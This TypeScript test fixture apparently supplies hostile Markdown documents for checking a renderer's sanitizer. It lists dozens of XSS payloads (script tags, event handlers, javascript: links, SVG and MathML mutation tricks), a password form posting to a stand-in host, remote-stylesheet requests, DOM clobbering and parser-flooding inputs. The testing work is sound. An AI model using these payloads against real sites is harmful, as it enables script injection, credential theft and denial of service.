/**
 * Documents that try to run something in their page, to restyle it, to name its parts, or to break it. Each sets
 * `window.__pwned` if it succeeds, and requests an address that does not exist.
 */

export interface HostileDocument {
  name: string;
  markdown: string;
  /** Words that the page must still show: the defence removes none of the document's text. */
  mustKeep: string[];
}

const RUN = 'window.__pwned=1';
/** No request may go to this address. */
export const ELSEWHERE = 'https://hostile.invalid/';

/** An attack in one line, between two paragraphs that must stay. */
const between = (name: string, attack: string, ...keep: string[]): HostileDocument => ({
  name,
  markdown: `# § 1. Lanterns\n\nBefore ${name}.\n\n${attack}\n\nAfter ${name}.\n`,
  mustKeep: [`Before ${name}.`, `After ${name}.`, ...keep],
});

const SCRIPTS: HostileDocument[] = [
  between('script', `<script>${RUN}</script>`),
  between(
    'script in a sentence',
    `The keeper <script>${RUN}</script> may dim the lamp.`,
    'The keeper',
    'may dim the lamp.',
  ),
  between('script in capitals', `<ScRiPt>${RUN}</sCrIpT>`),
  between('script without an end', `<script>${RUN}`),
  between('script in two lines', `<script\n>${RUN}\n</script\n>`),
  between('script from elsewhere', `<script src="${ELSEWHERE}x.js"></script>`),
  between('script of a module', `<script type="module">${RUN}</script>`),
  between('script that a filter would leave', `<scr<script>ipt>${RUN}</scr</script>ipt>`),
  between('script in a comment that ends early', `<!--> <script>${RUN}</script> -->`),
  between('script after a NUL', `<scr\0ipt>${RUN}</scr\0ipt>`),
  between('noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`),
  between('template', `<template><script>${RUN}</script></template>`),
  between('CDATA', `<![CDATA[<script>${RUN}</script>]]>`),
];

const HANDLERS: HostileDocument[] = [
  between('image with a handler', `<img src=x onerror="${RUN}">`),
  between('image with a handler and slashes', `<img/src=x/onerror=${RUN}>`),
  between('handler on an element that may stay', `x<sup onclick="${RUN}" onmouseover="${RUN}">2</sup>`, 'x'),
  between('focus', `<input autofocus onfocus="${RUN}">`),
  between('details that open', `<details open ontoggle="${RUN}">folded words</details>`, 'folded words'),
  between('marquee', `<marquee onstart="${RUN}">moving words</marquee>`, 'moving words'),
  between('video', `<video><source onerror="${RUN}"></video>`),
  between('body', `<body onload="${RUN}">`),
  between('animation', `<b onanimationstart="${RUN}" style="animation:a">bold words</b>`, 'bold words'),
  between(
    'handler in a quotation mark',
    `<a title="x' onmouseover='${RUN}'" href='x'>titled words</a>`,
    'titled words',
  ),
];

const LINKS: HostileDocument[] = [
  between('link that runs', `[press me](javascript:${RUN})`, 'press me'),
  between('link in capitals', `[press me](JaVaScRiPt:${RUN})`, 'press me'),
  between('link with character references', `[press me](&#106;avascript:${RUN})`, 'press me'),
  between('link with a tab', `[press me](<java\tscript:${RUN}>)`, 'press me'),
  between('link with a control character', `[press me](<\x01javascript:${RUN}>)`, 'press me'),
  between('link by reference', `[press me][evil]\n\n[evil]: javascript:${RUN} "title"`, 'press me'),
  between('link of data', `[press me](data:text/html,<script>${RUN}</script>)`, 'press me'),
  between('link of VBScript', `[press me](vbscript:${RUN})`, 'press me'),
  between('link in angle brackets', `<javascript:${RUN}>`),
  between('link in raw HTML', `<a href="javascript:${RUN}">press me</a>`, 'press me'),
  between('link in raw HTML with a line feed', `<a href="java\nscript:${RUN}">press me</a>`, 'press me'),
  between('picture that runs', `![a lamp](javascript:${RUN})`, 'a lamp'),
  between('picture from elsewhere', `![a lamp](${ELSEWHERE}lamp.png)`, 'a lamp'),
  between('picture from elsewhere in raw HTML', `<img src="${ELSEWHERE}pixel.gif" alt="a pixel">`),
];

const FOREIGN: HostileDocument[] = [
  between('SVG', `<svg onload="${RUN}"><circle r="9"/></svg>`),
  between('SVG with a script', `<svg><script>${RUN}</script></svg>`),
  between(
    'SVG that animates a link',
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>press me</text></a></svg>`,
    'press me',
  ),
  between(
    'MathML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ),
  between(
    'MathML with a link',
    `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">press me</maction></math>`,
    'press me',
  ),
  between(
    'mutation by a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  ),
  between(
    'mutation by a table',
    `<table><td><svg><desc><style><img title="</style><img src=x onerror=${RUN}>">`,
  ),
  between('mutation by a paragraph', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`),
  between(
    'mutation by a select',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  ),
  between(
    'foreign object',
    `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  ),
];

const FRAMES: HostileDocument[] = [
  between('frame', `<iframe src="javascript:parent.__pwned=1"></iframe>`),
  between('frame with a document', `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`),
  between('object', `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`),
  between('embed', `<embed src="data:text/html,<script>parent.__pwned=1</script>">`),
  between('base', `<base href="${ELSEWHERE}">`),
  between('refresh', `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`),
  between(
    'form',
    `<form action="${ELSEWHERE}"><input name="password"><button>Sign in</button></form>`,
    'Sign in',
  ),
  between('portal', `<portal src="${ELSEWHERE}"></portal>`),
];

const DRESS: HostileDocument[] = [
  between('style', `<style>body{display:none}</style>`),
  between('style from elsewhere', `<link rel="stylesheet" href="${ELSEWHERE}x.css">`),
  between('style that asks', `<style>@import '${ELSEWHERE}x.css';</style>`),
  between(
    'style attribute',
    `<div style="position:fixed;inset:0;background:url(${ELSEWHERE}x)">covering words</div>`,
    'covering words',
  ),
  between('class', `<mark class="standing" id="main">classy words</mark>`, 'classy words'),
];

const NAMES: HostileDocument[] = [
  between(
    'clobbered names',
    `<sub id="main">1</sub> <a name="location" href="https://example.org/">x</a> <sup id="getElementById">2</sup>`,
  ),
  between('clobbered form', `<form id="body"><input name="parentNode"><input name="attributes"></form>`),
  between(
    'clobbered footnotes',
    `Words.[^__proto__] More.[^constructor]\n\n[^__proto__] A note of its own.\n\n[^constructor] Another note.`,
    'A note of its own.',
    'Another note.',
  ),
  between(
    'footnote label with markup',
    `Words.[^"><img/src=x/onerror=${RUN}>]\n\n[^"><img/src=x/onerror=${RUN}>] The note.`,
    'Words.',
    'The note.',
  ),
  between('heading that names a part', `## main\n\n## __proto__\n\nWords below.`, 'Words below.'),
  between('label that names a part', `(a) first words\n\n(a) second words`, 'first words', 'second words'),
];

const SMUGGLED: HostileDocument[] = [
  between('code', `\`<img src=x onerror=${RUN}>\``),
  between('fence', `\`\`\`"><script>${RUN}</script>\n<script>${RUN}</script>\n\`\`\``),
  between(
    'table',
    `| a <script>${RUN}</script> | b |\n|---|---|\n| <img src=x onerror=${RUN}> | cell words |`,
    'cell words',
  ),
  between('escapes', `\\<script>${RUN}\\</script> &lt;img src=x onerror=${RUN}&gt;`),
  between('title of a link', `[titled](https://example.org/ "x\\" onmouseover=\\"${RUN}")`, 'titled'),
  between('item', `1. <script>${RUN}</script>\n2. item words`, 'item words'),
  between('quotation', `> <img src=x onerror=${RUN}>\n> quoted words`, 'quoted words'),
  between(
    'unknown tag',
    `<name of carrier onclick=${RUN}> is the carrier`,
    'name of carrier',
    'is the carrier',
  ),
];

const BROKEN: HostileDocument[] = [
  between('ends without beginnings', `</p></div></main></body></html> outer words`, 'outer words'),
  between('tags across each other', `<b><i>crossed</b> words</i></td></table>`, 'crossed', 'words'),
  between(
    'table that is not closed',
    `<table><tr><td>cell words\n\n**strong words**`,
    'cell words',
    'strong words',
  ),
  // A comment hides everything after it from every reader of Markdown.
  {
    name: 'comment that is not closed',
    markdown: 'Before the comment.\n\n<!-- hidden\n\nbehind',
    mustKeep: ['Before the comment.'],
  },
  between('tag that is not closed', `<a href="x\n\nwords behind`, 'words behind'),
  between('elements left open', `<sub>low <sup>high <mark>bright`, 'low', 'high', 'bright'),
];

/** Large repetitive texts, for parsers with quadratic time or deep recursion. */
const FLOODS: HostileDocument[] = [
  between('quotations within quotations', `${'>'.repeat(5_000)} deep words`, 'deep words'),
  between('items within items', `${'- '.repeat(5_000)}deep words`, 'deep words'),
  between('emphasis that is not closed', `${'*a **b '.repeat(5_000)}last words`, 'last words'),
  between('brackets', `${'['.repeat(20_000)} bracketed words`, 'bracketed words'),
  between('links that are not closed', `${'[a]('.repeat(10_000)} linked words`, 'linked words'),
  between(
    'backticks',
    `${Array.from({ length: 300 }, (_, i) => '`'.repeat(i + 1)).join(' ')} ticked words`,
    'ticked words',
  ),
  between('elements within elements', `${'<sub>'.repeat(5_000)}sunken words`, 'sunken words'),
  between('tags that are not closed', `${'<a '.repeat(10_000)}angled words`, 'angled words'),
  between('footnote marks', `${'w[^1]'.repeat(3_000)}\n\n[^1] The note.`, 'The note.'),
  between(
    'lines of a table',
    `| a | b |\n|---|---|\n${'| c | d |\n'.repeat(3_000)}| last | cell words |`,
    'cell words',
  ),
];

/** At least fifty. */
export const hostileDocuments = (): HostileDocument[] => [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...FOREIGN,
  ...FRAMES,
  ...DRESS,
  ...NAMES,
  ...SMUGGLED,
  ...BROKEN,
  ...FLOODS,
];
